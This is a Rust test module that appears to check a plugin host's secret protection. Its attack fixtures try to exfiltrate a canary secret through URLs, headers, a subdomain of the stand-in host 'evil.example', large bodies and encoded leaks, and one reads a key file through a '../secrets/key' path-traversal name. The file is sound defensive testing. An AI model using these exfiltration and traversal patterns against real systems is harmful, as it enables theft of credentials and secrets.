//! Attacks on secrets: sent to forbidden destinations, seen without a grant, and leaked by a plugin
//! that saw them.

use std::fs::{self, Permissions};
use std::os::unix::fs::PermissionsExt;

use sedge_app::secret::put::secret_put;
use sedge_app::types::SecretValue;
use sedge_test_kit::Server;
use serde_json::{Value, json};

use crate::fixture::House;
use crate::harness::Attack;

const TYPE: &str = "@test/keeper";

/// The value that must not appear anywhere.
const CANARY: &str = "canary of the mine";

/// Stores the secret that all attacks target.
pub(crate) fn put(house: &House) {
    let value = SecretValue::new(CANARY.as_bytes().to_vec()).expect("a value");
    let name = "TOKEN".parse().expect("a name");
    secret_put(&house.cx(), &name, &value, false).expect("it can be put");
}

pub(crate) fn attacks() -> Vec<Attack> {
    let (server, other) = (Server::plain(), Server::plain());
    let mut attacks = sent(&server, &other);
    attacks.extend(leaked());
    attacks.push(Attack::other(
        "a secret while its key is open to all",
        async move |_| {
            let house = House::new();
            put(&house);
            let key = house.path().join(".sedge/secrets/key");
            fs::set_permissions(key, Permissions::from_mode(0o644)).expect("ours");
            let ran = house.run("sink", "run", json!({"note": CANARY})).await;
            format!("{:?}", ran.map(|report| report.value))
        },
        "Secret(Closed",
    ));
    attacks.push(Attack::other(
        "the requests at the other server",
        async move |_| {
            let has_secret = |it: &&String| it.contains("canary");
            let n_leaked = other.requests().iter().filter(has_secret).count();
            format!("{n_leaked} requests with a secret")
        },
        "0 requests with a secret",
    ));
    attacks
}

/// Any host is granted for requests, and one host for the secret.
fn sent(server: &Server, other: &Server) -> Vec<Attack> {
    let of = |name: &str, method: &str, arguments: Value, ends: &str| {
        let grants = format!(
            "grants: {{http: [{{url: 'http://*:*', addresses: [127.0.0.0/8]}}], secrets: [{{name: TOKEN, hosts: ['{}']}}]}}",
            server.origin()
        );
        Attack::call(name, (TYPE, method), arguments, ends).with(&grants)
    };
    let denied = "may not send the secret `TOKEN`";
    let large = format!("{}{{secret}}", "s".repeat(100_000));
    let forged = format!("sedge-secret-{}", "0".repeat(32));
    vec![
        of(
            "a secret in a URL",
            "send",
            json!({"url": other.url("/hello?a={secret}")}),
            denied,
        ),
        of(
            "a secret in a host's name",
            "send",
            json!({"url": "http://{secret}.evil.example/"}),
            denied,
        ),
        of(
            "a secret in a header",
            "send",
            json!({"url": other.url("/hello"), "headers": {"x-a": "{secret}"}}),
            denied,
        ),
        of(
            "a secret as a password",
            "send",
            json!({"url": other.url("/hello"), "headers": {"x-a": "{basic}"}}),
            denied,
        ),
        of(
            "a secret at the end of a body",
            "send",
            json!({"url": other.url("/hello"), "body": large}),
            denied,
        ),
        of(
            "a secret a thousand times",
            "send",
            json!({"url": server.url("/hello"), "body": "{secret}", "times": 1000}),
            "failed",
        ),
        of(
            "a placeholder of its own making",
            "send",
            json!({"url": server.url("/hello"), "body": forged}),
            "\"status\":200",
        ),
        of(
            "a secret that is only to be sent",
            "show",
            json!({}),
            "may not see the secret `TOKEN`",
        ),
        of(
            "a secret that it did not ask for",
            "get",
            json!({"name": "UNASKED"}),
            "does not request",
        ),
        of(
            "a secret by the path of the key",
            "get",
            json!({"name": "../secrets/key"}),
            "there can be none",
        ),
    ]
}

/// The plugin was granted to see the secret.
fn leaked() -> Vec<Attack> {
    let leak = |by: &str, form: &str, ends: &str| {
        let name = format!("a secret leaked by {by} in {form}");
        let arguments = json!({"by": by, "form": form});
        Attack::call(&name, (TYPE, "tell"), arguments, ends)
            .with("grants: {models: ['*'], secrets: [{name: TOKEN, reveal: true}]}")
    };
    let mark = "[secret TOKEN]";
    let mut attacks = Vec::new();
    for form in ["plain", "base64", "base64-inside", "hex", "percent"] {
        for by in ["value", "panic", "target"] {
            attacks.push(leak(by, form, mark));
        }
    }
    attacks.push(leak("failure", "json", mark));
    attacks
}
